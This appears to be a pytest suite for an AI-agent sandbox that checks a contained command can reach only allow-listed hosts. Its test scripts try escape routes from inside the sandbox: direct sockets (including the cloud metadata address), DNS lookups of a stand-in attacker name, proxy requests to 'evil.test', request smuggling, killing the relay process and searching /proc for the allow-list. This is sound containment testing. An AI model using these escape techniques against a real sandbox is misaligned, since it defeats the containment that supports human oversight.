"""Egress by name: a command allowed named hosts reaches those and nothing else.

Each test is a real process in the real sandbox trying to get out another way: straight to
another address on the machine, by DNS, through the proxy for a host not on the list, by
killing the relay, by speaking to the proxy's socket itself, by a second request on a
connection let through, and by reading the list. Two real HTTP servers on loopback stand
for the allowed model API and for everything else.
"""

from __future__ import annotations

import contextlib
import http.server
import os
import socket
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from pytest_agentgate.sandbox import containment as sandbox
from pytest_agentgate.sandbox.network import Network
from pytest_agentgate.sandbox.process import CommandResult


class _Server(http.server.ThreadingHTTPServer):
    hits: list[str]


class _Handler(http.server.BaseHTTPRequestHandler):
    server: _Server

    def do_GET(self) -> None:
        self.server.hits.append(self.path)
        body = f"reached {self.server.server_address[1]}\n".encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def servers() -> Iterator[tuple[_Server, _Server]]:
    """(allowed, other): two HTTP servers on the machine's loopback."""
    made = []
    for _ in range(2):
        server = _Server(("127.0.0.1", 0), _Handler)
        server.hits = []
        threading.Thread(target=server.serve_forever, daemon=True).start()
        made.append(server)
    yield made[0], made[1]
    for server in made:
        server.shutdown()
        server.server_close()


def port(server: _Server) -> int:
    return int(server.server_address[1])


def run(bwrap: str, tmp_path: Path, network: str, script: str) -> CommandResult:
    box = sandbox.resolve(sandbox.Settings(mode="bwrap"))
    role = sandbox.Role("agent", Network.parse(network), unprivileged=True)
    work = tmp_path / "work"
    work.mkdir(exist_ok=True)
    return sandbox.run_contained(
        box, role, [sys.executable, "-c", script], sandbox.Mounts(work, tmp_path / "p"), timeout=60
    )


FETCH = """
import os, sys, urllib.request
import socket
def fetch(url, proxy=True):
    # proxy: as the environment says (loopback direct); "force": through the proxy; False: never
    if proxy == "force":
        host, port = os.environ["HTTP_PROXY"].split("//")[1].split(":")
        s = socket.create_connection((host, int(port)), timeout=5)
        s.sendall(f"GET {url} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
        head = s.recv(100).decode()
        return "reached" if " 200 " in head else f"failed: {head.splitlines()[0]}"
    handlers = [] if proxy is True else [urllib.request.ProxyHandler({})]
    try:
        with urllib.request.build_opener(*handlers).open(url, timeout=5) as answer:
            return answer.read().decode().strip()
    except Exception as exc:
        return f"failed: {type(exc).__name__}"
"""


def test_the_allowed_host_is_reached_and_another_port_is_refused_and_noted(
    bwrap: str, tmp_path: Path, servers: tuple[_Server, _Server]
) -> None:
    allowed, other = servers
    script = (
        FETCH
        + f"""
print("allowed:", fetch("http://127.0.0.1:{port(allowed)}/ok"))
print("other-through-proxy:", fetch("http://127.0.0.1:{port(other)}/x", proxy="force"))
print("other-direct:", fetch("http://127.0.0.1:{port(other)}/y", proxy=False))
print("outside:", fetch("http://example.com/"))
"""
    )
    result = run(bwrap, tmp_path, f"allow:127.0.0.1:{port(allowed)}", script)
    assert result.returncode == 0, result.output
    assert f"allowed: reached {port(allowed)}" in result.output
    assert "other-through-proxy: failed" in result.output
    assert "other-direct: failed" in result.output
    assert "outside: failed" in result.output
    assert other.hits == [] and allowed.hits == ["/ok"]
    refused = {(r.host, r.port) for r in result.refused}
    assert refused == {("127.0.0.1", port(other)), ("example.com", 80)}
    assert result.refused_count == 2


def test_no_direct_socket_reaches_any_other_address(
    bwrap: str, tmp_path: Path, servers: tuple[_Server, _Server]
) -> None:
    """Straight to the machine's loopback, to its other addresses, and out: nothing."""
    allowed, other = servers
    addresses = ["127.0.0.1", "10.0.0.1", "1.1.1.1", "169.254.169.254"]
    with contextlib.suppress(OSError):
        addresses.append(socket.gethostbyname(socket.gethostname()))
    script = f"""
import socket
for host in {addresses!r}:
    for port in ({port(other)}, 80, 443, 53):
        s = socket.socket()
        s.settimeout(2)
        try:
            s.connect((host, port))
            print("REACHED", host, port)
        except OSError:
            pass
        finally:
            s.close()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b"x", ("1.1.1.1", 53))
    print("SENT UDP")
except OSError:
    pass
print("done")
"""
    result = run(bwrap, tmp_path, f"allow:127.0.0.1:{port(allowed)}", script)
    assert "done" in result.output and "REACHED" not in result.output, result.output
    assert "SENT UDP" not in result.output
    assert other.hits == []


def test_no_name_is_resolved_inside(bwrap: str, tmp_path: Path) -> None:
    """DNS to another name carries data out: the command cannot resolve any name (the
    proxy resolves only those it lets through, outside)."""
    script = """
import socket
for name in ("example.com", "secret-data.attacker.test", "pypi.org"):
    try:
        print("RESOLVED", name, socket.getaddrinfo(name, 443))
    except OSError as exc:
        print("no", name)
"""
    result = run(bwrap, tmp_path, "allow:pypi.org", script)
    assert "RESOLVED" not in result.output, result.output
    assert result.output.count("no ") == 3


def test_the_proxy_refuses_a_host_not_on_the_list_however_asked(
    bwrap: str, tmp_path: Path, servers: tuple[_Server, _Server]
) -> None:
    """CONNECT, an absolute-form request, the proxy's socket spoken to directly: each
    refused with 403, and noted."""
    allowed, other = servers
    script = f"""
import os, socket
def ask(sock, request):
    sock.sendall(request)
    return sock.recv(200).split(b"\\r\\n")[0].decode()
proxy = os.environ["HTTPS_PROXY"].rsplit(":", 1)
s = socket.create_connection((proxy[0].split("//")[1], int(proxy[1])))
print("connect:", ask(s, b"CONNECT 127.0.0.1:{port(other)} HTTP/1.1\\r\\n\\r\\n"))
s = socket.create_connection((proxy[0].split("//")[1], int(proxy[1])))
print("absolute:", ask(s, b"GET http://evil.test:{port(other)}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"))
sock_path = [p for p in os.listdir("/tmp") if p.startswith("agentgate-egress-")]
u = socket.socket(socket.AF_UNIX)
u.connect(f"/tmp/{{sock_path[0]}}/proxy.sock")
print("socket:", ask(u, b"CONNECT 10.9.9.9:22 HTTP/1.1\\r\\n\\r\\n"))
"""
    result = run(bwrap, tmp_path, f"allow:127.0.0.1:{port(allowed)}", script)
    for how in ("connect", "absolute", "socket"):
        assert f"{how}: HTTP/1.1 403 Forbidden" in result.output, result.output
    assert {(r.host, r.port) for r in result.refused} == {
        ("127.0.0.1", port(other)),
        ("evil.test", port(other)),
        ("10.9.9.9", 22),
    }
    assert other.hits == []


def test_a_second_request_on_a_connection_let_through_stays_with_its_host(
    bwrap: str, tmp_path: Path, servers: tuple[_Server, _Server]
) -> None:
    """A connection is fixed to the host it was let through to: a second request on it,
    naming another host, still goes there (never to the other)."""
    allowed, other = servers
    script = f"""
import os, socket, time
proxy = os.environ["HTTP_PROXY"].rsplit(":", 1)
s = socket.create_connection((proxy[0].split("//")[1], int(proxy[1])))
s.sendall(b"GET http://127.0.0.1:{port(allowed)}/first HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n"
          b"GET http://127.0.0.1:{port(other)}/second HTTP/1.1\\r\\nHost: b\\r\\n\\r\\n")
time.sleep(1)
print(s.recv(4000).decode())
"""
    result = run(bwrap, tmp_path, f"allow:127.0.0.1:{port(allowed)}", script)
    assert other.hits == [], result.output
    assert allowed.hits[:1] == ["/first"]


def test_killing_the_relay_opens_no_other_way(bwrap: str, tmp_path: Path) -> None:
    script = """
import os, signal, socket
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) not in (os.getpid(), 1):
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read()
        except OSError:
            continue
        if b"relay.py" in cmd:
            os.kill(int(pid), signal.SIGKILL)
            print("killed relay")
try:
    socket.create_connection(("1.1.1.1", 443), timeout=2)
    print("REACHED")
except OSError:
    print("still closed")
"""
    result = run(bwrap, tmp_path, "allow:example.com", script)
    assert "REACHED" not in result.output, result.output


def test_the_list_is_nowhere_a_command_can_read_it(bwrap: str, tmp_path: Path) -> None:
    """The allow-list lives in the plugin's memory: not in the environment, the relay's
    arguments, the socket's folder, or any file the command sees."""
    script = """
import os
needle = ("secret-model" + "-host").encode()
found = []
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for name in ("cmdline", "environ"):
        try:
            if needle in open(f"/proc/{pid}/{name}", "rb").read():
                found.append(f"/proc/{pid}/{name}")
        except OSError:
            pass
for root in ("/tmp", os.environ["HOME"], "/etc"):
    for folder, _, files in os.walk(root):
        for name in files:
            try:
                if needle in open(os.path.join(folder, name), "rb").read():
                    found.append(os.path.join(folder, name))
            except OSError:
                pass
print("FOUND", found)
"""
    result = run(bwrap, tmp_path, "allow:secret-model-host.example,127.0.0.1:9", script)
    assert "FOUND []" in result.output, result.output


@pytest.mark.skipif(os.geteuid() != 0, reason="the unprivileged user inside is for runs as root")
def test_an_agent_runs_unprivileged_and_what_it_leaves_is_the_runner_s(
    bwrap: str, tmp_path: Path
) -> None:
    script = "import os, getpass; print(os.getuid(), getpass.getuser()); open('left.txt', 'w')"
    result = run(bwrap, tmp_path, "none", script)
    assert result.output.split() == [str(sandbox.AGENT_UID), sandbox.AGENT_USER], result.output
    assert (tmp_path / "work" / "left.txt").stat().st_uid == os.geteuid()
